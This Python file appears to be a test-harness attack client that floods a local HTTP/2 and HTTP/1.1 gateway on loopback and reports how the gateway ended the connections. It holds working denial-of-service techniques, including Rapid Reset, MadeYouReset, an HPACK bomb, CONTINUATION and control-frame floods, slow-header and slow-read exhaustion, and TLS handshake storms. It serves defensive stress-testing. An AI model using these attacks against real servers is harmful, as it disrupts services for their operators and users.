"""A client that means harm, as a process of its own: `attacker.py KIND PORT HOST SECONDS`. The last line of output is JSON:
how many connections it made, how many the gateway ended, by GOAWAY with which codes, and what else an attack counts."""

import collections
import json
import pathlib
import select
import socket
import sys
import threading
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

from peers.frames import *  # noqa: E402, F403
from peers.frames import literal  # noqa: E402
from peers.wire import readable  # noqa: E402

BATCH = 200  # frames in one write


class Attack:
    def __init__(self, port, host, seconds):
        self.port, self.host, self.seconds, self.deadline = port, host, seconds, time.monotonic() + seconds
        self.made = self.ended = self.bytes = 0
        self.codes = collections.Counter()
        self.resets = collections.Counter()
        self.next_source = 0

    @property
    def goes_on(self):
        return time.monotonic() < self.deadline

    def report(self):
        return {"made": self.made, "ended": self.ended, "codes": self.codes, "resets": self.resets, "bytes": self.bytes}

    # ---- connections

    def connect(self, receive_buffer=None):
        sock = socket.socket()
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.settimeout(5)
        # Several addresses: one has only 28,000 ports.
        self.next_source = (self.next_source + 1) % 8
        sock.bind((f"127.0.0.{2 + self.next_source}", 0))
        sock.connect(("127.0.0.1", self.port))
        self.made += 1
        return sock

    def begin(self, *pairs, **options):
        sock = self.connect(**options)
        sock.sendall(PREFACE + settings(*pairs))
        return sock

    def head(self, path="/a.B/Unary", *more):
        """A request's block that leaves the tables alone, so that it can be sent again and again."""
        fields = [(":method", "POST"), (":scheme", "http"), (":authority", self.host), (":path", path)]
        fields += [("content-type", "application/grpc"), ("te", "trailers"), *more]
        return b"".join(literal(name, value) for name, value in fields)

    def look(self, sock, wait=0.0):
        """Reads what is there and notes what frames say; False: the gateway has ended the connection."""
        sock.settimeout(wait or 0.0001)
        try:
            data = sock.recv(1 << 20)
        except (BlockingIOError, TimeoutError):
            return True
        except OSError:
            self.ended += 1
            return False
        finally:
            sock.settimeout(5)
        if not data:
            self.ended += 1
            return False
        self.bytes += len(data)
        self.note(data)
        return True

    def note(self, data):
        """GOAWAY and RST_STREAM; good enough where whole frames come, as they do on loopback."""
        while len(data) >= 9:
            length, kind = int.from_bytes(data[:3], "big"), data[3]
            payload, data = data[9 : 9 + length], data[9 + length :]
            if kind == GOAWAY and length >= 8:
                self.codes[int.from_bytes(payload[4:8], "big")] += 1
            elif kind == RST_STREAM and length == 4:
                self.resets[int.from_bytes(payload, "big")] += 1

    def flood(self, opening, batch):
        """Sends `batch(first stream id)` again and again on one connection after the other."""
        while self.goes_on:
            sock = self.begin()
            stream = 1
            try:
                sock.sendall(opening)
                alive = True
                while alive and self.goes_on and stream < MAX_INT31 - 4 * BATCH:
                    sock.sendall(batch(stream))
                    stream += 2 * BATCH
                    alive = self.look(sock)
            except OSError:
                self.read_out(sock)
            sock.close()

    def read_out(self, sock):
        """The gateway has ended it: its last words."""
        while self.look(sock, 0.05):
            if not self.goes_on:
                self.ended += 1
                return

    def hold(self, count, start, feed=None, every=0.1, reads=True, most=None):
        """Keeps `count` connections that `start()` makes, and `feed(sock)` now and then; makes new ones for those ended, `most`
        in all."""
        held, poll = {}, select.poll()
        fed = 0
        while self.goes_on and (most is None or self.made < most):
            while len(held) < count and self.goes_on and (most is None or self.made < most):
                try:
                    sock = start()
                except OSError:
                    self.ended += 1
                    break
                held[sock.fileno()] = sock
                # Who does not read still hears of a reset.
                poll.register(sock, select.POLLIN if reads else 0)
            for number, _ in poll.poll(every * 1000):
                if reads and self.look(held[number]):
                    continue
                if not reads:
                    self.ended += 1
                poll.unregister(number)
                held.pop(number).close()
            if feed and time.monotonic() - fed >= every:
                fed = time.monotonic()
                for sock in held.values():
                    try:
                        feed(sock)
                    except OSError:
                        pass  # noticed above
        for sock in held.values():
            sock.close()


def ids(first):
    return range(first, first + 2 * BATCH, 2)


def rapid_reset(attack):
    block = attack.head("/a.B/B100000")
    attack.flood(
        b"",
        lambda first: b"".join(
            frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, int32(CANCEL)) for s in ids(first)
        ),
    )


def provoked_reset(attack):
    """MadeYouReset: DATA behind the end of the stream."""
    block = attack.head()
    attack.flood(
        b"",
        lambda first: b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frame(DATA, 0, s, b"x") for s in ids(first)
        ),
    )


def repeated(one, opening=lambda attack: b""):
    batch = one * BATCH
    return lambda attack: attack.flood(opening(attack), lambda first: batch)


def open_stream(attack, path="/a.B/Stream"):
    return frame(HEADERS, END_HEADERS, 1, attack.head(path))


def stream_limit(attack):
    block = attack.head("/a.B/Stream")
    attack.flood(b"", lambda first: b"".join(frame(HEADERS, END_HEADERS, s, block) for s in ids(first)))


def hpack_bomb(attack):
    """A field of 4,000 bytes put into the table once, and named by one byte each from then on."""
    opening = frame(HEADERS, END_HEADERS | END_STREAM, 1, attack.head() + b"\x40" + literal("bomb", "b" * 4_000)[1:])
    block = attack.head() + b"\xbe" * 8_000
    attack.flood(
        opening,
        lambda first: b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s + 2, block) for s in ids(first)[:4]),
    )


def slow_head_http1(attack):
    def start():
        sock = attack.connect()
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {attack.host}\r\n".encode())
        return sock

    attack.hold(40, start, lambda sock: sock.send(b"x"))


def slow_head_http2(attack):
    """A HEADERS block that goes on in CONTINUATION frames of a byte."""

    def start():
        sock = attack.begin()
        sock.sendall(frame(HEADERS, 0, 1, attack.head()))
        return sock

    attack.hold(40, start, lambda sock: sock.send(frame(CONTINUATION, 0, 1, b"\0")))


def incomplete_frame(attack):
    """A frame whose payload comes a byte at a time."""

    def start():
        sock = attack.begin()
        sock.sendall(frame(HEADERS, END_HEADERS, 1, b"\0" * 2_000)[:40])
        return sock

    attack.hold(40, start, lambda sock: sock.send(b"\0"))


def slow_body(attack):
    """A byte from time to time."""

    def start():
        sock = attack.connect()
        sock.sendall(f"POST /x HTTP/1.1\r\nHost: {attack.host}\r\nContent-Length: 100000\r\n\r\nhello".encode())
        return sock

    attack.hold(40, start, lambda sock: sock.send(b"x"))


def slow_body_http2(attack):
    """The same on each of 16 streams."""
    streams = range(1, 33, 2)
    fields = {":method": "POST", ":scheme": "http", ":authority": attack.host, ":path": "/x"}
    head = b"".join(literal(name, value) for name, value in fields.items())

    def start():
        sock = attack.begin()
        sock.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, head) for stream in streams))
        return sock

    attack.hold(10, start, lambda sock: sock.send(b"".join(frame(DATA, 0, stream, b"x") for stream in streams)))


def stalled_streams(attack):
    """Eight streams of 8 MiB each on a connection, none with a window worth the name: a byte at a time."""

    def start():
        sock = attack.begin((INITIAL_WINDOW_SIZE, 0))
        for stream in range(1, 17, 2):
            message = frame(DATA, END_STREAM, stream, b"\0\0\0\0\0")
            sock.sendall(frame(HEADERS, END_HEADERS, stream, attack.head("/a.B/B8388608")) + message)
        return sock

    attack.hold(8, start, lambda sock: sock.send(b"".join(frame(WINDOW_UPDATE, 0, s, int32(1)) for s in range(1, 17, 2))))


def slow_read(attack):
    """All windows open, and nothing read."""

    def start():
        sock = attack.begin((INITIAL_WINDOW_SIZE, MAX_INT31), receive_buffer=4_096)
        sock.sendall(frame(WINDOW_UPDATE, 0, 0, int32(1 << 30)))
        message = frame(DATA, END_STREAM, 1, b"\0\0\0\0\0")
        sock.sendall(frame(HEADERS, END_HEADERS, 1, attack.head("/a.B/B8388608")) + message)
        return sock

    attack.hold(20, start, reads=False)


def slow_read_http1(attack):
    """An answer of 8 MiB, taken a byte at a time."""
    head = f"POST /a.B/B8388608 HTTP/1.1\r\nHost: {attack.host}\r\nContent-Length: 5\r\n\r\n".encode()

    def start():
        sock = attack.connect(receive_buffer=4_096)
        sock.sendall(head + bytes(5))
        return sock

    def take(sock):
        sock.settimeout(0)
        attack.bytes += len(sock.recv(1))

    # A byte a second where the attack lasts so long.
    attack.hold(20, start, take, every=min(1, attack.seconds / 10), reads=False)


def oversized(begin, part):
    """Connections that each begin something and go on with it for ever; `begin(attack)` and `part` are bytes."""

    def run(attack):
        opening, more = begin(attack), part * max(1, 65_536 // len(part))
        while attack.goes_on:
            sock = attack.connect()
            try:
                sock.sendall(opening)
                alive = True
                while alive and attack.goes_on:
                    sock.sendall(more)
                    alive = attack.look(sock)
            except OSError:
                attack.read_out(sock)
            sock.close()

    return run


def http1_head(attack, line="GET / HTTP/1.1", more=""):
    return f"{line}\r\nHost: {attack.host}\r\n{more}".encode()


def oversized_trailers(attack):
    return http1_head(attack, "POST /a.B/Unary HTTP/1.1", "Transfer-Encoding: chunked\r\n\r\n5\r\n\0\0\0\0\0\r\n0\r\n")


def oversized_fields(attack, trailers=False):
    """Header blocks of 100,000 bytes, which are decoded to their end: each is answered with 431."""
    big, head = literal("big", "b" * 16_000), attack.head()

    def request(stream):
        first, opening = head, b""
        if trailers:
            opening = frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, bytes(5))
            first = literal("first", "")
        rest = b"".join(frame(CONTINUATION, flags, stream, big) for flags in (0, 0, 0, 0, 0, END_HEADERS))
        return opening + frame(HEADERS, END_STREAM, stream, first) + rest

    while attack.goes_on:
        sock = attack.begin()
        try:
            for stream in range(1, 20_001, 2):
                sock.sendall(request(stream))
                if not attack.look(sock) or not attack.goes_on:
                    break
        except OSError:
            attack.read_out(sock)
        sock.close()


def hot_requests(attack, count=300_000):
    """Requests that are answered at once, one connection full of them after the other: made beforehand, so that the worker has to work more
    than we do."""
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", attack.host.encode()), (b":path", b"/nowhere")]
    opening = b"".join(b"\x40" + literal(name, value)[1:] for name, value in fields)
    # What was put into the table last is entry 62 (RFC 7541 §2.3.3).
    block = bytes(0x80 | 62 + len(fields) - 1 - number for number in range(len(fields)))
    head = frame(HEADERS, END_HEADERS | END_STREAM, 0, block)[:5]
    later = b"".join(head + int32(stream) + block for stream in range(3, 2 * count, 2))
    # The time to make them is not the attack's.
    attack.deadline = time.monotonic() + attack.seconds
    while attack.goes_on:
        sock = attack.begin((INITIAL_WINDOW_SIZE, MAX_INT31))
        reader = threading.Thread(target=drain, args=(attack, sock), daemon=True)
        reader.start()
        try:
            sock.sendall(frame(WINDOW_UPDATE, 0, 0, int32(1 << 30)) + frame(HEADERS, END_HEADERS | END_STREAM, 1, opening))
            for at in range(0, len(later), 1 << 20):
                if not attack.goes_on:
                    break
                sock.sendall(later[at : at + (1 << 20)])
            # Much of it is still with the kernel.
            reader.join(max(0, attack.deadline - time.monotonic()))
        except OSError:
            attack.ended += 1
        sock.close()
        reader.join(5)


def drain(attack, sock):
    """Takes the answers, so that nothing waits for us, until none has come for a while."""
    try:
        while readable(sock, 0.5) and (data := sock.recv(1 << 20)):
            attack.bytes += len(data)
    except OSError:
        pass


def client_hello(host):
    import ssl

    out = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    tls = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=host)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def handshakes(attack, count=40, most=None):
    """Begun and left: a ClientHello, and nothing more."""
    hello = client_hello(attack.host)

    def start():
        sock = attack.connect()
        sock.sendall(hello)
        return sock

    attack.note = lambda data: None
    attack.hold(count, start, most=most)


def many_connections(attack):
    attack.note = lambda data: None
    attack.hold(300, attack.connect)


def held_memory(attack):
    """Streams that wait for a window, as many as there may be."""

    def start():
        sock = attack.begin((INITIAL_WINDOW_SIZE, 0))
        for stream in range(1, 401, 2):
            message = frame(DATA, END_STREAM, stream, b"\0\0\0\0\0")
            sock.sendall(frame(HEADERS, END_HEADERS, stream, attack.head("/a.B/B100000")) + message)
            attack.look(sock, 0.001)
        return sock

    attack.hold(2, start)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "provoked_reset": provoked_reset,
    "ping_flood": repeated(frame(PING, 0, 0, b"12345678")),
    "settings_flood": repeated(settings((INITIAL_WINDOW_SIZE, 65_535))),
    "priority_flood": repeated(frame(PRIORITY, 0, 1, b"\0\0\0\3\x10")),
    "empty_data": repeated(frame(DATA, 0, 1), open_stream),
    "window_update_flood": repeated(frame(WINDOW_UPDATE, 0, 0, int32(1))),
    "unknown_frames": repeated(frame(0x42, 0, 0, b"x")),
    "continuation_flood": repeated(frame(CONTINUATION, 0, 1), lambda attack: frame(HEADERS, 0, 1, attack.head())),
    "stream_limit": stream_limit,
    "hpack_bomb": hpack_bomb,
    "slow_head_http1": slow_head_http1,
    "slow_head_http2": slow_head_http2,
    "incomplete_frame": incomplete_frame,
    "slow_body": slow_body,
    "slow_body_http2": slow_body_http2,
    "stalled_stream": stalled_streams,
    "slow_read": slow_read,
    "slow_read_http1": slow_read_http1,
    "oversized_head": oversized(http1_head, b"X-Filler: 12345678901234567890\r\n"),
    "oversized_uri": oversized(lambda attack: b"GET /", b"u"),
    "oversized_trailers": oversized(oversized_trailers, b"X-Filler: 12345678901234567890\r\n"),
    "oversized_fields": oversized_fields,
    "oversized_trailer_fields": lambda attack: oversized_fields(attack, trailers=True),
    "oversized_frame": oversized(
        lambda attack: PREFACE + settings() + frame(DATA, 0, 1, bytes(1 << 20))[:9], bytes(16_384)
    ),
    "hot_requests": hot_requests,
    "slow_handshake": handshakes,
    "handshake_limit": lambda attack: handshakes(attack, 400),
    "handshake_storm": lambda attack: handshakes(attack, 8_000, 100_000),
    "connection_limit": many_connections,
    "memory_connection": held_memory,
}


def main():
    kind, port, host, seconds = sys.argv[1:]
    attack = Attack(int(port), host, float(seconds))
    ATTACKS[kind](attack)
    print(json.dumps(attack.report()), flush=True)


if __name__ == "__main__":
    main()
